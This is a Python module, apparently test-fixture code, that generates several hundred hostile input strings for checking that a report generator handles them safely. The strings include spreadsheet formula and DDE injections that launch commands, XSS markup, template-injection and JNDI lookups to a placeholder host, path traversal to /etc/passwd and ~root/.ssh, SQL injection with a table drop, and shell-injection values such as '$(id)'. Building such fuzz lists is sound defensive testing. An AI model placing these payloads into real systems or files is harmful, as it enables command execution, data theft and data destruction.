"""Texts that somebody could have typed into a master to make a report do something: by class, each class as a product."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_FORMULA_STARTS = ("=", "+", "-", "@", "\t=", "\n=", " =", "＝", "＋", "－", "＠", "'=", '"=', "{=", "=-", ";=")
_FORMULA_BODIES = (
    "cmd|'/c calc'!A0", "SUM(A1:A9)", "1+1", 'HYPERLINK("http://example.invalid","x")', "WEBSERVICE(A1)",
    "DDE(\"cmd\";\"/c\";\"x\")", "IMPORTXML(A1,\"//a\")", "A1}",
)  # fmt: skip
_SCHEMES = (
    "http://", "https://", "ftp://", "mailto:", "file:///", "javascript:", "data:text/html,", "vbscript:", "external:",
    "internal:", "tel:", "smb://", "\\\\", "//",
)  # fmt: skip
_TARGETS = ("example.invalid/x", "a@example.invalid?subject=x", "'Sheet1'!A1", "alert(1)", "c:\\x.xlsx")
_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe srcdoc='<p>x'></iframe>",
    "<details open ontoggle=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>",
    "<base href=//example.invalid>", "<meta http-equiv=refresh content=0>", "<form action=//example.invalid><input>",
    "<object data=x></object>", "<math><mtext></mtext></math>", "<template>x</template>", "<link rel=stylesheet href=x>",
)  # fmt: skip
_ESCAPES = ("", '">', "'>", "</script>", "</title>", "-->", "]]>", "</style>", "</textarea>")
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "[[7*7]]", "${jndi:ldap://example.invalid}", "%s%n%x", "{0}",
    "`id`", "$(id)", "{{constructor.constructor('alert(1)')()}}", "\\u003cscript\\u003e", "&lt;b&gt;", "&#x3c;b&#x3e;", "%3Cb%3E",
)  # fmt: skip
_INVISIBLE = "‪‫‬‭‮⁦⁧⁨⁩\u200b\u200c\u200d\u200e\u200f\ufeff\u061c\u2028\u2029\u00ad\u034f\u180e\u3164\u115f"
_PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\x", "\\\\server\\share\\x", "%2e%2e%2fx",
    "..%c0%afx", "....//x", "CON", "NUL.txt", "aux", "a/../../b", "~root/.ssh", "$HOME/x", "file.xlsx:stream", "x" * 300,
    ".", "..", "-rf", "--help", "name.", "name ", "a\\b", "a/b", "|ls", ";ls", "&&ls", ">x", "*", "?",
)  # fmt: skip
_XML = (
    "<r><t>rich</t></r>", "<r>x</r>", "_x0041_", "_x000D_", "_xD83D_", "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY b 'c'>]>", "&b;",
    "<![CDATA[x]]>", "]]>&amp;&lt;", "<f>1+1</f>", "</t></si>", "<si><t>x</t></si>", "<hyperlink ref='A1'/>", "&#0;", "&#xFFFF;",
)  # fmt: skip
_SQL = (
    "'; drop table finding; --",
    "' or '1'='1",
    '"; --',
    "$1",
    "$$x$$",
    "/* x */",
    "\\'; x",
    "%' --",
    "chr(0)",
    "[x]",
    "{x}",
    "\\",
)
_KEYS = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "prototype",
    "null",
    "undefined",
    "NaN",
    "length",
    "-",
)
_LOOKALIKES = (
    "1e5", "007", "1E308", "6.22E+18", "2026-01-01", "3/4", "TRUE", "#REF!", "#N/A", "0x10", " lead", "trail ", "1,000", "￥5",
    "110101199003070000000", "00:00", "½", "٣", "１２３", "-0", "1_000", "0b1", "inf", "(5)", "5%",
)  # fmt: skip
_GLYPHS = (
    "😀🧧",
    "👨‍👩‍👧",
    "é́́́",
    "ﷺ",
    "אבג",
    "مرحبا",
    "𠮷野家",
    "㊙",
    "ﬁ",
    "İı",
    "ß",
    "\U000e0041",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "龘",
    "ʼ",
    "〱",
    "　",
    "\xa0x",
    "﹒",
    "①",
)


def hostile_texts() -> list[str]:
    """At least 500 different texts, in a fixed order."""
    return list(dict.fromkeys(_texts()))


def _texts() -> Iterator[str]:
    yield from (start + body for start, body in product(_FORMULA_STARTS, _FORMULA_BODIES))
    yield from (scheme + target for scheme, target in product(_SCHEMES, _TARGETS))
    yield from (escape + markup for escape, markup in product(_ESCAPES, _MARKUP))
    yield from (before + template for before, template in product(("", "某"), _TEMPLATES))
    for character in _INVISIBLE:
        yield from (f"{character}甲乙", f"甲{character}乙", f"甲乙{character}")
    for texts in (_PATHS, _XML, _SQL, _KEYS, _LOOKALIKES, _GLYPHS):
        yield from texts
